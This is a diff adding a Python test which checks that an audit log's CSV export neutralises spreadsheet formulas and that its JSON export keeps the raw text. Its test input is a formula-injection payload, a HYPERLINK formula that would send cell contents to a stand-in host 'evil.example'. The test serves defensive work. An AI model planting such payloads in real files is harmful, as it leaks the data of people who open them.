@@ -82,6 +82,40 @@ def test_agency_key_and_lookup_round_trip(
     assert fresh.test_client().get(url, headers=bearer(key)).status_code == 401
 
 
+def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
+    runner: CliRunner, make_app: AppFactory, tmp_path: Path
+) -> None:
+    from lookup.audit import AUDIT_CSV_COLUMNS, record
+
+    typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    with make_app().app_context():
+        record(
+            None,
+            channel="web",
+            action="person",
+            query=typed,
+            reason="-2+3",
+            outcome="no_match",
+            agency_id="a-1",
+            actor="officer:o1",
+            detail={"matches": 0},
+        )
+    target = tmp_path / "audit.csv"
+    assert run(runner, "audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
+    with target.open(newline="", encoding="utf-8") as handle:
+        header, *rows = list(csv.reader(handle))
+    assert tuple(header) == AUDIT_CSV_COLUMNS
+    [row] = [dict(zip(header, cells, strict=True)) for cells in rows]
+    assert row["query"] == "'" + typed
+    assert row["reason"] == "'-2+3"
+    assert row["outcome"] == "no_match"
+    assert json.loads(row["detail"])["matches"] == 0
+    [line] = run(runner, "audit", "export").stdout.splitlines()
+    as_json = json.loads(line)
+    assert (as_json["query"], as_json["reason"]) == (typed, "-2+3")
+    assert tuple(as_json) == tuple(header)  # CSV columns are the JSON fields, in order
+
+
 def test_officer_create_prints_its_secrets_once(runner: CliRunner, data_dir: Path) -> None:
     run(runner, "agency", "create", "Metro Police")
     result = run(runner, "officer", "create", "jdoe", "--agency", "Metro Police")
